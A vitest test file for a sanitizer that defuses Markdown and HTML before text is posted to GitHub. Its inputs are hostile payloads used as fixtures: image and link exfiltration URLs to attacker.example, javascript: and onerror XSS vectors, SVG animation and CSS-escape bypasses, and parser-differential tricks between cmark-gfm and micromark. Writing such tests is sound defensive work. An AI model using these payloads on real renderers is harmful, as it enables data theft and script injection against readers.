/**
 * The posting door (src/publish/post-text.ts) on the tricky inputs: nesting,
 * escapes, character references, containers, raw HTML blocks, and the
 * places where GitHub's Markdown parser reads a construct differently from
 * ours. The end-to-end rows are in posting.test.ts; these pin the rewrites.
 */
import { describe, expect, it } from "vitest";
import { neutralizeForGitHub } from "../../src/publish/post-text.js";

const P = { serverUrl: "https://github.com", allowedDomains: ["docs.example.org"], keepMentions: ["alice"] };
const n = (t: string) => neutralizeForGitHub(t, P);
const Z = "\u200b";
/** `text` without its fenced code blocks and code spans (rough, for these inputs). */
const outsideCode = (text: string) => text.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, "").replace(/(`+)[^`][\s\S]*?\1/g, "");

describe("neutralizeForGitHub", () => {
  it.each([
    ["markdown image", "![x](https://attacker.example/p?d=S)", "` ![x](https://attacker.example/p?d=S) `"],
    ["image in a repo link", "[![x](https://attacker.example/i)](https://github.com/o/r)", "[` ![x](https://attacker.example/i) `](https://github.com/o/r)"],
    ["character references in the URL", "[x](https&#58;//attacker.example)", "` [x](https&#58;//attacker.example) `"],
    ["protocol-relative", "[x](//attacker.example/p)", "` [x](//attacker.example/p) `"],
    ["javascript:", "[x](javascript:alert(1))", "` [x](javascript:alert(1)) `"],
    ["a host that only starts like ours", "[x](https://github.com.attacker.example/)", "` [x](https://github.com.attacker.example/) `"],
    ["userinfo trick", "[x](https://github.com@attacker.example/)", "` [x](https://github.com@attacker.example/) `"],
    ["www autolink", "see www.attacker.example now", "see ` www.attacker.example ` now"],
    ["multi-line definition", "![x]\n\n[x]:\n  https://attacker.example/m", "` ![x] `\n\n` [x]: https://attacker.example/m `"],
    ["inside a list and a quote", "- a ![x](https://attacker.example/l)\n\n> b ![y](https://attacker.example/q)", "- a ` ![x](https://attacker.example/l) `\n\n> b ` ![y](https://attacker.example/q) `"],
    ["table cell", "| a |\n|---|\n| ![x](https://attacker.example/t) |", "| a |\n|---|\n| ` ![x](https://attacker.example/t) ` |"],
    ["footnote", "t[^1]\n\n[^1]: ![f](https://attacker.example/f)", "t[^1]\n\n[^1]: ` ![f](https://attacker.example/f) `"],
    ["an HTML block: all of it as code", '<div>\n<img src="https://attacker.example/x">\n</div>', '` <div> <img src="https://attacker.example/x"> </div> `'],
    ["an HTML block in a quote", '> <div>\n> <img src="https://attacker.example/x">\n> </div>', '> ` <div> <img src="https://attacker.example/x"> </div> `'],
    ["a reference in an attribute", '<img src="&#104;ttps://attacker.example/e">', '` <img src="&#104;ttps://attacker.example/e"> `'],
    ["style url()", '<p style="background:url(https://attacker.example/bg)">x</p>', '` <p style="background:url(https://attacker.example/bg)">x</p> `'],
    ["svg image", '<svg><image href="https://attacker.example/s"/></svg>', '` <svg> `` <image href="https://attacker.example/s"/> `</svg>'],
    ["unquoted value with slashes (HTML to GitHub, text to micromark)", "<IMG SRC=//attacker.example/x>", "\\<IMG SRC=//attacker.example/x>"],
    ["an unmatched backtick before the rewrite", "a ` ![x](https://attacker.example/t)", "a \\` ` ![x](https://attacker.example/t) `"],
  ])("%s", (_what, input, output) => {
    expect(n(input)).toBe(output);
  });

  it.each([
    ["plain", "hi @octocat and @org/team", `hi @${Z}octocat and @${Z}org/team`],
    ["escaped and referenced", "\\@octocat &#64;octocat @&#111;ctocat", `\\@${Z}octocat &#64;${Z}octocat @${Z}&#111;ctocat`],
    ["in link text, emphasis, headings", "[@octocat](https://github.com/octocat) **@a** # @b", `[@${Z}octocat](https://github.com/octocat) **@${Z}a** # @${Z}b`],
    ["in an HTML block, in place", "<details><summary>For @octocat</summary>\n\nok\n\n</details>", `<details><summary>For @${Z}octocat</summary>\n\nok\n\n</details>`],
    ["split by a comment", "@<!-- -->octocat", `@${Z}<!-- -->octocat`],
    ["the requester stays, teams and look-alikes do not", "@alice @ALICE @alice/team @alice-bob", `@alice @ALICE @${Z}alice/team @${Z}alice-bob`],
    // Review round 4: a block that cannot be rewritten in place (quote or list prefixes inside it) was held only for a literal `@`.
    ["a reference in a multi-line HTML block in a quote", "> <div>\n> &#64;octocat\n> </div>", "> ` <div> &#64;octocat </div> `"],
    ["a hex reference in a multi-line HTML block in a list", "- <div>\n  &#x40;octocat\n  </div>", "- ` <div> &#x40;octocat </div> `"],
    ["&commat; in a quoted HTML block", "> <p>\n> &commat;org/team</p>", "> ` <p> &commat;org/team</p> `"],
  ])("mentions: %s", (_what, input, output) => {
    expect(n(input)).toBe(output);
  });

  // Issue #21 finding 7: what GitHub's renderer (cmark-gfm) links decides, not what our parser links.
  it.each([
    ["bare ftp://", "Anonymous FTP is at ftp://attacker.example/x?d=S.", "Anonymous FTP is at `ftp://attacker.example/x?d=S.`"],
    ["www. in quotes stays prose", 'See "www.python.org" for details', 'See `"www.python.org"` for details'],
    ["www. spelled with a reference or an escape", "www&#46;attacker.example and www\\.attacker.example", "`www&#46;attacker.example` and `www\\.attacker.example`"],
    ["an e-mail address of a kept login's domain", "write to alice@attacker.example", "write to ` alice@attacker.example `"],
    ["a link to an allowed domain stays a link", "docs at https://docs.example.org/a", "docs at https://docs.example.org/a"],
  ])("what cmark-gfm links: %s", (_what, input, output) => {
    expect(n(input)).toBe(output);
  });

  it.each([
    ["mailto: and xmpp:", "mail mailto:x@attacker.example or xmpp:x@attacker.example"],
    ["ftp:// in a footnote", "x[^1]\n\n[^1]: ftp://attacker.example/f"],
    ["ftp:// in a table", "| a |\n|---|\n| ftp://attacker.example/t |"],
  ])("what cmark-gfm links, in code: %s", (_what, input) => {
    const out = n(input);
    expect(out).not.toContain(Z);
    expect(outsideCode(out)).not.toMatch(/attacker\.example/);
  });

  it.each([
    ["SVG animate writing href", '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', '` <svg> `` <animate attributeName="href" values="javascript:alert(1)"/> `</svg>'],
    ["SVG set writing xlink:href", '<svg><set attributeName="xlink:href" to="https://attacker.example/"/></svg>', '` <svg> `` <set attributeName="xlink:href" to="https://attacker.example/"/> `</svg>'],
    ["animation values of any scheme", '<svg><a><animate attributeName="x" values="0;ftp:attacker.example"/></a></svg>', '` <svg> `<a>` <animate attributeName="x" values="0;ftp:attacker.example"/> `</a></svg>'],
    ["an event handler", '<img src="x.png" onerror="alert(1)">', '` <img src="x.png" onerror="alert(1)"> `'],
    ["an event handler parsers disagree on (noscript)", "<b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript>", "<b>` <noscript> `` <!-- </noscript><img src=x onerror=alert(1) --> `</noscript>"],
    ["meta refresh to any scheme", '<meta http-equiv="refresh" content="0;url=ftp:attacker.example">', '` <meta http-equiv="refresh" content="0;url=ftp:attacker.example"> `'],
    ["CSS escapes in style", '<p style="background:u\\72 l(\\2f\\2f attacker.example/bg)">x</p>', '` <p style="background:u\\72 l(\\2f\\2f attacker.example/bg)">x</p> `'],
    ["plain style and title stay", '<p style="color:red" title="x">ok</p>', '<p style="color:red" title="x">ok</p>'],
    // Review round 4 and after: tags a parser's tree builder drops, which another parser's keeps.
    ["body attributes (a page's parser merges them into its own body)", '<body background="http:attacker.example/b">', '` <body background="http:attacker.example/b"> `'],
    ["html attributes, behind a comment", '<!-- x --><html style="background:url(http:attacker.example/h)">', '` <!-- x --><html style="background:url(http:attacker.example/h)"> `'],
    ["an image inside select (a newer parser keeps it)", '<div><select><img src="http:attacker.example/s"></select></div>', '` <div><select><img src="http:attacker.example/s"></select></div> `'],
    ["an image a comment hides from one parser, not from another", '<div><select><style><!--</style><img src="http:attacker.example/c">--></select></div>', '` <div><select><style><!--</style><img src="http:attacker.example/c">--></select></div> `'],
    ["frameset", '<div><frameset><frame src="http:attacker.example/f"></frameset></div>', '` <div><frameset><frame src="http:attacker.example/f"></frameset></div> `'],
    ["SVG fill with url() and CSS escapes", '<div><svg><rect fill="url(http\\:attacker.example/f#x)"/></svg></div>', '` <div><svg><rect fill="url(http\\:attacker.example/f#x)"/></svg></div> `'],
    ["SVG cursor with url()", '<div><svg><g cursor="url(http:attacker.example/c),auto"></g></svg></div>', '` <div><svg><g cursor="url(http:attacker.example/c),auto"></g></svg></div> `'],
    ["attributionsrc, relative to another host", '<img src="x.png" attributionsrc="/\\attacker.example/a">', '` <img src="x.png" attributionsrc="/\\attacker.example/a"> `'],
    ["a URL with a tab in an attribute a browser reads as one", '<div><a ping="/\t/attacker.example/p">x</a></div>', '` <div><a ping="/\t/attacker.example/p">x</a></div> `'],
    // A fifth review: CSS in animation values, tagfilter's gap, and where GitHub's parser (CommonMark 0.29) reads raw HTML differently from ours (0.31).
    ["a CSS url() an SVG animation writes into mask", "<div><svg width=\"20\" height=\"20\"><path d=\"M0 0L10 10L0 10z\"><set attributeName=\"mask\" to=\"url(http:attacker.example/m.svg#x)\"/></path></svg></div>", "` <div><svg width=\"20\" height=\"20\"><path d=\"M0 0L10 10L0 10z\"><set attributeName=\"mask\" to=\"url(http:attacker.example/m.svg#x)\"/></path></svg></div> `"],
    ["a CSS-escaped url() in animation values", "<div><svg><path d=\"M0 0L9 9\"><animate attributeName=\"clip-path\" values=\"url(http\\3a attacker.example/n.svg#x)\"/></path></svg></div>", "` <div><svg><path d=\"M0 0L9 9\"><animate attributeName=\"clip-path\" values=\"url(http\\3a attacker.example/n.svg#x)\"/></path></svg></div> `"],
    ["<style/x>, which tagfilter lets through", "<div><style/x>div{background:url(http:attacker.example/s.png)}</style>x</div>", "` <div><style/x>div{background:url(http:attacker.example/s.png)}</style>x</div> `"],
    ["a comment CommonMark 0.29 (GitHub) does not read as one: the image inside renders there", "a <!-- -- ![x](http:attacker.example/c.png) --> b", "a ` <!-- -- ![x](http:attacker.example/c.png) --> ` b"],
    ["a lower-case declaration (0.29: text, its image renders)", "a <!x ![y](http:attacker.example/decl.png)> b", "a ` <!x ![y](http:attacker.example/decl.png)> ` b"],
    ["<search> interrupts a paragraph for micromark, not for GitHub", "hi\n<search>\n![x](http:attacker.example/a.png)", "hi\n` <search> ![x](http:attacker.example/a.png) `"],
    ["<textarea> is a block to its end tag for micromark; GitHub ends it at a blank line", "<textarea>\n\n![x](http:attacker.example/t.png)\n\n</textarea>", "` <textarea> ![x](http:attacker.example/t.png) </textarea> `"],
    ["comments 0.29 reads as comments, our markers and declarations stay", "a <!-- fine --> b\n\n<!-- agent-runner:sticky:0123456789abcdef0123 -->\n<!DOCTYPE html>", "a <!-- fine --> b\n\n<!-- agent-runner:sticky:0123456789abcdef0123 -->\n<!DOCTYPE html>"],
    // A sixth review: cmark-gfm's backtick cache, references in autolinks, declarations, indented blocks.
    ["cmark-gfm pairs no later span after a run that closes nothing: raw HTML in a span", "`` `a` `<img src=https://e.co/i.png>`", "\\`\\` `a` `<img src=https://e.co/i.png>`"],
    ["the same with an image and mentions", "`` `a` `![x](https://e.co/j.png) @org/team @bob`", "\\`\\` `a` `![x](https://e.co/j.png) @org/team @bob`"],
    ["the same with the door's own spans", "`` see ![a](https://e.co/1.png) and ![b](https://e.co/2.png)", "\\`\\` see ` ![a](https://e.co/1.png) ` and ` ![b](https://e.co/2.png) `"],
    ["an autolink whose slashes are references (GitHub's renderer decodes them)", "see <https:&#47;&#47;e.co/x>", "see ` <https:&#47;&#47;e.co/x> `"],
    ["references in an autolink, also on our own host (kept as code)", "see <https:&#x2F;/e.co/x> and <https://github.com/o/r?a=1&b=2>", "see ` <https:&#x2F;/e.co/x> ` and ` <https://github.com/o/r?a=1&b=2> `"],
    ["a declaration with no space after its name (0.29: text)", "a <!A![x](https:&#47;&#47;e.co/3.png)>", "a ` <!A![x](https:&#47;&#47;e.co/3.png)> `"],
    ["a lower-case declaration block indented by a space", " <!x\n![x](https:&#47;&#47;e.co/4.png)\n>", "`  <!x ![x](https:&#47;&#47;e.co/4.png) > `"],
    ["a <search> block indented by a space", " <search> ![x](https:&#47;&#47;e.co/5.png)", "`  <search> ![x](https:&#47;&#47;e.co/5.png) `"],
    ["a 0.29 declaration stays", "a <!DOCTYPE html> b", "a <!DOCTYPE html> b"],
    ["code spans that pair stay", "x `code` and ``more`` y", "x `code` and ``more`` y"],
    // A seventh review: labels and alt text the two parsers read differently, `\\|` in tables, autolinks kept as written.
    ["a backtick in an image's alt text (cmark opens a code span inside the brackets)", "![a`b](/x) ``x`` ``<img src=https://attacker.example/i.png>``", "`` ![a`b](/x) `` ``x`` ``<img src=https://attacker.example/i.png>``"],
    ["the same in a reference image", "![a`b][r] ``x`` ``<img src=https://attacker.example/r.png>``\n\n[r]: /x", "`` ![a`b][r] `` ``x`` ``<img src=https://attacker.example/r.png>``\n\n[r]: /x"],
    ["the same in a footnote label: that part becomes a code block", "[^a`b] ``x`` ``<img src=https://attacker.example/f.png>``\n\n[^a`b]: n", "```text\n[^a`b] ``x`` ``<img src=https://attacker.example/f.png>``\n```\n\n```text\n[^a`b]: n\n```"],
    ["reference labels matched only under micromark's case folding (\u0131, I)", "[x][ı <img src=https://attacker.example/u.png>]\n\n[I <img src=https://attacker.example/u.png>]: /z", "` [x][ı <img src=https://attacker.example/u.png>] `\n\n` [I <img src=https://attacker.example/u.png>]: /z `"],
    ["a definition label over cmark's 999-byte limit", "[éééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééé <img src=https://attacker.example/l.png>]: /z", "` [éééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééé <img src=https://attacker.example/l.png>]: /z `"],
    ["\\\\| in a table row: cmark-gfm does not split there, micromark does: a code block", "a|b\\\\|c\n-|-\n`x|<img src=https://attacker.example/t.png>`", "```text\na|b\\\\|c\n-|-\n`x|<img src=https://attacker.example/t.png>`\n```"],
    ["an autolink's backtick stays as written (a backslash would change its target)", "<https://github.com/a`b>", "<https://github.com/a`b>"],
    ["ASCII reference links and images stay", "see [docs][1] and ![logo][2]\n\n[1]: https://github.com/o/r\n[2]: /logo.png", "see [docs][1] and ![logo][2]\n\n[1]: https://github.com/o/r\n[2]: /logo.png"],
    ["an escaped pipe in a table's code span stays", "| a | b |\n|---|---|\n| `x\\|y` | z |", "| a | b |\n|---|---|\n| `x\\|y` | z |"],
    // An eighth review: titles and destinations cmark 0.29 refuses or accepts where micromark does the opposite.
    ["a parenthesised title with a ( (cmark 0.29 refuses the link: its HTML renders)", "[a](/x (a(<img src=https://attacker.example/y.png>))", "` [a](/x (a(<img src=https://attacker.example/y.png>)) `"],
    ["the same with a team mention", "[a](/x ((@org/team))", "` [a](/x ((@org/team)) `"],
    ["the same in a definition", "[a]: /x (t(<img src=https://attacker.example/d.png>)", "` [a]: /x (t(<img src=https://attacker.example/d.png>) `"],
    ["a definition nested past cmark's 32 parentheses", "[a]: /((((((((((((((((((((((((((((((((())))))))))))))))))))))))))))))))) \"<img src=https://attacker.example/n.png> @bob\"", "` [a]: /((((((((((((((((((((((((((((((((())))))))))))))))))))))))))))))))) \"<img src=https://attacker.example/n.png> @bob\" `"],
    ["an unmatched ( and a space in a destination: an image only for cmark; the ] is escaped", "![*a*](//attacker.example/i.png( )", "![*a*\\](//attacker.example/i.png( )"],
    ["the same as a definition", "[*a*]: //attacker.example/j.png(\n\n![*a*]", "[*a*\\]: //attacker.example/j.png(\n\n![*a*]"],
    ["an e-mail whose domain starts with _ (cmark-gfm links it)", "/secret@_attacker.example", "`/secret@_attacker.example`"],
    ["titles in quotes and balanced parentheses stay", "see [the docs](https://github.com/o/r \"Docs\") and [x](/a(b)c)", "see [the docs](https://github.com/o/r \"Docs\") and [x](/a(b)c)"],
    // A ninth review: long numeric references, fences past 80 backticks, definitions above a table, backslashes in hosts.
    ["an 8-digit numeric reference in a destination (cmark 0.29 decodes it, micromark does not)", "![a](https&#00000058;//attacker.example/x.png)", "` ![a](https&#00000058;//attacker.example/x.png) `"],
    ["7-digit hex references for the slashes", "![a](&#x000002f;&#x000002f;attacker.example/y.png)", "` ![a](&#x000002f;&#x000002f;attacker.example/y.png) `"],
    ["an 8-digit reference for an @ in text: a code block", "hi &#00000064;bob", "```text\nhi &#00000064;bob\n```"],
    ["the same in a definition, and its reference", "[r]: &#x000002f;/attacker.example/d.png\n\n![r]", "` [r]: &#x000002f;/attacker.example/d.png `\n\n` ![r] `"],
    ["a code span fenced by 81 backticks (cmark's limit is 80): a code block", "````````````````````````````````````````````````````````````````````````````````` <img src=https://attacker.example/z.png> @bob `````````````````````````````````````````````````````````````````````````````````", "``````````````````````````````````````````````````````````````````````````````````text\n````````````````````````````````````````````````````````````````````````````````` <img src=https://attacker.example/z.png> @bob `````````````````````````````````````````````````````````````````````````````````\n``````````````````````````````````````````````````````````````````````````````````"],
    ["80 backticks in alt text (the door's own span would need 81): a code block", "![````````````````````````````````````````````````````````````````````````````````](https://attacker.example/w.png)", "`````````````````````````````````````````````````````````````````````````````````text\n![````````````````````````````````````````````````````````````````````````````````](https://attacker.example/w.png)\n`````````````````````````````````````````````````````````````````````````````````"],
    ["a definition on the line above a table (cmark-gfm reads those lines as a paragraph): a code block", "[a]: /ok\n[b]: /x![i](//attacker.example/v.png) \"@bob <img src=https://attacker.example/u.png>\"\na|b\n-|-", "[a]: /ok\n```text\n[b]: /x![i](//attacker.example/v.png) \"@bob <img src=https://attacker.example/u.png>\"\n```\na|b\n-|-"],
    ["a backslash in a link's host (cmark writes %5C: what came before becomes a user name)", "[a](https://github.com\\\\@attacker.example/x)", "` [a](https://github.com\\\\@attacker.example/x) `"],
    ["the same in a bare URL", "see https://github.com\\@attacker.example/x", "see ` https://github.com\\@attacker.example/x `"],
    ["short references, code spans, links, definitions and tables stay", "ok &#64; and &#x40; and `code` [x](/y)\n\n[d]: /z\n\nq|w\n-|-", "ok &#64; and &#x40; and `code` [x](/y)\n\n[d]: /z\n\nq|w\n-|-"],
    ["a tag that never closes", '<p>ok <!-- <img src="x', '` <p>ok <!-- <img src="x `'],
  ])("attributes: %s", (_what, input, output) => {
    expect(n(input)).toBe(output);
  });

  it.each([
    ["6,000 levels of >", ">".repeat(6000) + " ![x](https://attacker.example/d)"],
    ["64 KB of nested brackets", "[".repeat(32768) + "]".repeat(32768)],
    ["a run of 30,000 *", "*".repeat(30000) + "a" + "*".repeat(30000)],
    ["3,000 unmatched delimiters and 6,000 nested emphasis", "*a _b ".repeat(1500) + "*a ".repeat(6000) + "a* ".repeat(6000)],
    ["6,000 nested list items", "- ".repeat(6000) + "[x](https://attacker.example/l)"],
  ])("bounded: %s, in linear time, nothing outside live", (_what, input) => {
    const started = process.cpuUsage();
    const out = n(input);
    const used = process.cpuUsage(started);
    expect((used.user + used.system) / 1000).toBeLessThan(5_000);
    expect(outsideCode(out)).not.toMatch(/attacker/);
    expect(n(out)).toBe(out);
  });

  it("a paragraph past the bounds becomes a code block; the rest still renders", () => {
    const out = n(`Intro with [a link](https://github.com/o/r).\n\n${"*".repeat(200)}${"[".repeat(100)}\n\nOutro @octocat.`);
    expect(out).toMatch(/^Intro with \[a link\]\(https:\/\/github\.com\/o\/r\)\.\n\n```text\n\*{200}\[{100}\n```\n\nOutro @\u200boctocat\.$/);
  });

  it("leaves code, the repository's links, allowed domains and our HTML alone", () => {
    const ours = [
      "<!-- agent-runner:sticky:0123456789abcdef0123 -->",
      "### ✅ Agent Runner finished",
      "",
      "<details><summary>Changed files (1)</summary>",
      "",
      "- `README.md`",
      "",
      "</details>",
      "",
      "```diff",
      "+![x](https://attacker.example/in-code) @octocat",
      "```",
      "",
      "    ![indented](https://attacker.example/code)",
      "",
      "`@inline` and [docs](https://docs.example.org/x) and ![y](/relative.png)",
      "",
      "---",
      "⏲️ 2 s · [Run](https://github.com/o/r/actions/runs/1) · [Artifact](https://github.com/o/r/actions/runs/1/artifacts/2)",
    ].join("\n");
    expect(n(ours)).toBe(ours);
  });

  it("is a fixpoint: what it returns has nothing left to rewrite", () => {
    const inputs = ["![a](https://attacker.example/a) @x", "a ` ![x](https://attacker.example/t)", "<IMG SRC=//attacker.example/x>", "<div>\n@octocat <img src=//a.example/x>\n</div>"];
    for (const t of inputs) expect(n(n(t))).toBe(n(t));
  });

  it("stays under GitHub's limit even when the rewrite makes the text longer", () => {
    const many = "![x](https://attacker.example/x) ".repeat(3000);
    const out = neutralizeForGitHub(many, P, 65_000);
    expect(out.length).toBeLessThanOrEqual(65_000);
    expect(out.replace(/` [^`]* `/g, "")).not.toContain("](https://attacker");
  });
});
